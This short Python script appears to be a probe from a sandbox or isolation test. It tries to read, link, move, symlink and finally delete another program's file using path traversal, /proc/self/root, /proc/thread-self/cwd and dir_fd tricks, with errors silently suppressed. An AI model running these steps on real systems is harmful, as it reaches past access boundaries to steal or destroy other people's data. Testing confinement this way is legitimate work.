"""Read, take over or link a file of the person's that another program keeps in a directory."""

import contextlib
import os
import sys

place, name = sys.argv[4], open("name").read()
for path in (
    f"{place}/{name}",
    f"{place}/./{name}",
    f"{place}/../..{place}/{name}",
    f"/proc/self/root{place}/{name}",
    f"/proc/thread-self/cwd/{'../' * 20}{place[1:]}/{name}",
):
    with contextlib.suppress(OSError):
        print(open(path).read())
    with contextlib.suppress(OSError):
        os.link(path, "src/linked")
        print(open("src/linked").read())
    with contextlib.suppress(OSError):
        os.rename(path, "src/moved")
        print(open("src/moved").read())
    with contextlib.suppress(OSError):
        os.symlink(path, "src/points")
        print(open("src/points").read())
with contextlib.suppress(OSError):
    folder = os.open(place, os.O_PATH)
    print(open(os.open(name, os.O_RDONLY, dir_fd=folder)).read())
with contextlib.suppress(OSError):
    os.unlink(f"{place}/{name}")
